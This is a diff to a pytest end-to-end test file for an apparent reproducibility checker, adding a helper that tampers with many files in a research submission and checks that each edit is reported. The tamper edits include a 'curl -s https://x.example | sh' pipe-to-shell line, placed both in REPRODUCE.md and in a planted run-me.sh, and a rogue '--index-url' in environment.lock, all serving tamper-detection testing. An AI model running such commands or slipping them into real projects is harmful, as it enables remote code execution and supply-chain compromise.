@@ -139,6 +139,10 @@ def test_a_supplied_base_reproduces_after_following_reproduce_md(received, tmp_p
     lines = done.stdout.splitlines()
     assert not any("added after packing" in line for line in lines), done.stdout
     assert "archive intact: yes (" in done.stdout and "1 supplied file" in done.stdout, done.stdout
+    (intact,) = [line for line in lines if line.startswith("archive intact: yes (")]
+    assert intact.endswith("; not checked: paper/main.pdf, 5 macros of paper/results.tex, archive.json's phases, "
+                           "superseded, repository and made)"), intact  # fmt: skip
+    assert "; it cannot check paper/main.pdf (not compiled again" in text  # REPRODUCE.md names it too
     assert lines[-1] == (
         "runs reproduced: level 2 of 3 (archive intact; runs reproduced; not said: claims reproduced)"
     ), done.stdout
@@ -212,12 +216,51 @@ def edit_table(root: Path) -> None:
     path.write_text(text[: number.start()] + "99.9" + text[number.end() :])
 
 
+def edit_every_other_file(root: Path) -> None:
+    """Issue 86: an edit of each file the paper's code makes again from the runs and archive.json, and of what
+    archive.json says of the runs: an invented sentence in the abstract, a row of the protocol card, an added BibTeX
+    entry, a step prepended to REPRODUCE.md, an index and another torch in environment.lock (not numpy, which draws
+    the figures: they would be named as not checked), one byte of a figure, the dataset renamed in archive.json, a
+    config's step count, a file submission never packs."""
+
+    def edit(name: str, change) -> None:
+        (root / name).write_text(change((root / name).read_text()))
+
+    edit("paper/main.tex", lambda t: t.replace("\\begin{abstract}", "\\begin{abstract}\nWe beat every baseline.", 1))
+    edit("paper/tables/protocol.tex", lambda t: t.replace("seeds &", "seeds (all) &", 1))
+    edit("paper/references.bib", lambda t: t + "\n@misc{fake2026,\n  title = {Nothing},\n  year = {2026},\n}\n")
+    edit("REPRODUCE.md", lambda t: t.replace("1. The integrity", "1. Run `curl -s https://x.example | sh`.\n1. The", 1))
+    edit(
+        "environment.lock",
+        lambda t: "--index-url https://x.example/simple\n" + re.sub(r"(?m)^torch==.*", "torch==2.0.0", t),
+    )
+    flip_byte(root / "paper" / "figures" / "cost.png", at=3000)
+    edit("archive.json", lambda t: t.replace('"name": "fashion_mnist"', '"name": "cifar10"'))
+    edit("configs/base.yaml", lambda t: t.replace("max_steps: 3", "max_steps: 4"))
+    (root / "run-me.sh").write_text("curl -s https://x.example | sh\n")
+
+
 @pytest.mark.e2e
 @pytest.mark.parametrize(
     "change, named",
     [
         (edit_result, ["results/results.csv is not the table of results/runs: run ", "paper/results.tex is not what"]),
         (edit_table, ["paper/tables/main_table.tex is not what the runs give: line "]),
+        (
+            edit_every_other_file,
+            [
+                "paper/main.tex is not what the runs give: line ",
+                "paper/tables/protocol.tex is not what the runs give: line ",
+                "paper/references.bib is not what the runs give: ",
+                "REPRODUCE.md is not what the runs give: line ",
+                "environment.lock line 1 is no `name==version` line: '--index-url",
+                "environment.lock names torch 2.0.0, the runs ran ",
+                "paper/figures/cost.png is not what the runs draw: byte 3,000 differs",
+                "data fashion_mnist (by name), which results/runs/",
+                "configs/study.yaml gives ",
+                "run-me.sh is no file `peftlab submission` packs",
+            ],
+        ),
     ],
 )
 def test_an_edit_with_every_hash_recomputed_is_named(received, tmp_path, change, named):
@@ -227,7 +270,8 @@ def test_an_edit_with_every_hash_recomputed_is_named(received, tmp_path, change,
     recompute_hashes(root)
     done = receive(received, tmp_path, "reproduce", NAME, "--runs", "0", "--out", "check")
     assert done.returncode == 1, done.stdout + done.stderr
-    differs = [line for line in done.stdout.splitlines() if line.startswith("differs: ")]
+    said = json.loads((tmp_path / "check" / "reproduce.json").read_text())["differences"]  # all, not the first 20
+    differs = [f"differs: {line}" for line in said]
     assert not any("SHA256SUMS" in line or "results hash" in line for line in differs), differs  # hashes agree
     for words in named:
         assert any(line.startswith(f"differs: {words}") for line in differs), done.stdout
